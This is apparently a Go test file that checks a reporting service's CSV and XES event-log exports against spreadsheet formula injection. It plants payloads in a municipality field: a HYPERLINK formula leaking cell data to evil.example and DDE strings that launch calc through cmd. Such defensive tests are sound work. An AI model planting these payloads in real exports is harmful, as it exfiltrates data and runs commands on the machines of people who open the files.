package attack_test

import (
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"schakel/internal/chain"
	"schakel/internal/xmllint"
)

// Municipalities typed as attacks: the event log's one free-text column.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")`,
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"+31612345678",
	"-2+3+cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	`Den "Haag" & <Co> ]]>`,
}

func TestExports(t *testing.T) {
	eachTarget(t, func(t *testing.T, tg *target) {
		sanne := tg.bearer(t, intaker)
		linda := tg.steppedUp(t, teamLead)
		for i, m := range formulaPayloads {
			rep := report(uint64(5000 + i))
			rep.Municipality = m
			if r := sanne.postJSON(t, "/api/v1/reports", rep, nil); r.status != http.StatusCreated {
				t.Fatalf("report with municipality %q: status %d %.300s", m, r.status, r.body)
			}
		}

		probe(t, tg, "no CSV cell starts a formula", func(t *testing.T, c checker) {
			r := linda.get(c, "/api/v1/eventlog.csv")
			recs, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
			if r.status != http.StatusOK || err != nil || len(recs) < 2 {
				c.Fatalf("eventlog.csv: status %d, %v, %d rows", r.status, err, len(recs))
			}
			numeric := map[string]bool{"organisation_id": true, "region_id": true}
			seen := map[string]bool{}
			for _, rec := range recs[1:] {
				for col, cell := range rec {
					name := chain.CSVHeader[col]
					if numeric[name] {
						if _, err := strconv.ParseInt(cell, 10, 64); cell != "" && err != nil {
							c.Errorf("%s holds %q, not a number", name, cell)
						}
						continue
					}
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						c.Errorf("%s cell %q starts a formula", name, cell)
					}
					seen[cell] = true
				}
			}
			for _, m := range formulaPayloads {
				m = strings.TrimSpace(m) // the intake trims what is typed
				if !seen[m] && !seen["'"+m] {
					c.Errorf("municipality %q is missing from the export", m)
				}
			}
		})

		probe(t, tg, "eventlog.xes validates against the XES schema", func(t *testing.T, c checker) {
			r := linda.get(c, "/api/v1/eventlog.xes")
			if r.status != http.StatusOK {
				c.Fatalf("eventlog.xes: status %d", r.status)
			}
			if err := xmllint.Check(t, xmllint.RepoFile(t, xmllint.XESSchema), []byte(r.body)); err != nil {
				c.Errorf("eventlog.xes fails the IEEE 1849-2016 schema:\n%v", err)
			}
		})
	})
}
